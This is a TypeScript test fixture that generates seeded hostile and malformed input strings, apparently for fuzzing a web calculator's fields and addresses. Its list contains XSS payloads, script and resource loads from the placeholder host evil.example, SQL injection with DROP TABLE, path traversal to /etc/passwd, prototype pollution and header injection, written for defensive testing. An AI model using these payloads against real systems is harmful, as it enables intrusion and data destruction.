/** What somebody who means harm, or a broken program, may put into a field or an address. The same in every run. */

import { seeded } from '../src/calculator/random.ts';

/** Would set `injected` on the page, ask another host or change every object, if anything ever took it for code. */
const attacks = [
  '<img src=x onerror=injected=1>',
  '<script>injected=1</script>',
  '"><svg onload=injected=1>',
  "'-(injected=1)-'",
  '<iframe src="javascript:parent.injected=1"></iframe>',
  '<script src=//evil.example/x.js></script>',
  '<img src=//evil.example/x.png>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><button autofocus onfocus=injected=1>',
  '<details open ontoggle=injected=1>',
  '<template shadowrootmode=open><img src=x onerror=injected=1></template>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=injected=1&gt;">',
  '&lt;img src=x onerror=injected=1&gt;',
  'javascript:injected=1',
  'data:text/html,<script>parent.injected=1</script>',
  '//evil.example/',
  '\\\\evil.example\\',
  'https://evil.example/?',
  "{{constructor.constructor('injected=1')()}}",
  '${injected=1}',
  '`;injected=1;`',
  "');injected=1;//",
  '*/injected=1/*',
  '</title></textarea></style></script><img src=x onerror=injected=1>',
  '__proto__[injected]=1',
  'constructor.prototype.injected=1',
  '{"__proto__":{"injected":1}}',
  "' OR 1=1; DROP TABLE entries; --",
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '%3Cscript%3Einjected=1%3C/script%3E',
  '%253Cscript%253Einjected=1%253C/script%253E',
  '%0d%0aSet-Cookie:%20injected=1',
  '\r\nSet-Cookie: injected=1',
  '%00',
  '%',
  '%u003cscript%u003e',
];

/** Awkward for programs that read text. */
const oddities = [
  '\0',
  '\u0007\u001b[31m',
  '\ud83e',
  '\udd84',
  '🦄🐍',
  '👩‍👩‍👧‍👦',
  '\u202e',
  '\u2066אבטחה',
  'مقارنة',
  '\u200b\ufeff',
  'Z͑ͫ̓ͪ̂ͫ̽',
  '\u2028\u2029',
  'ﷺ',
  'İıſK',
  '.*+?^${}()|[]\\/',
  '(?<=(a+)+)$',
  '(((((((((((((((((((',
  '"""""',
  '-1e309',
  'NaN',
  '0x7fffffffffffffff',
  'constructor',
  'hasOwnProperty',
  '__proto__',
  'toString',
  'a'.repeat(500),
  '/'.repeat(200),
  '?&=#;'.repeat(20),
];

/** What a reader might have meant. */
const words = ['session', 'migrations', 'Flask', 'admin', 'which is faster', 'juniors', 'audit', 'q', 'literal'];

/** So many different harmful texts, each made of one to four parts. */
export function harmfulTexts(count: number, seed: number): string[] {
  const next = seeded(seed);
  const one = (list: string[]) => list[Math.floor(next() * list.length)]!;
  const texts = new Set([...attacks, ...oddities].filter((text) => text.trim()).slice(0, count));
  while (texts.size < count) {
    const parts = Array.from({ length: 1 + Math.floor(next() * 4) }, () => {
      const kind = next();
      return one(kind < 0.5 ? attacks : kind < 0.8 ? oddities : words);
    });
    const text = parts.join(one(['', ' ', '"', "'", '>', '&', '=', '\t']));
    const from = Math.floor(next() * 6);
    // Cut at either end, as what was pasted or truncated is.
    const cut = next() < 0.3 ? text.slice(from, text.length - from) : text;
    if (cut.trim()) texts.add(cut);
  }
  return [...texts];
}
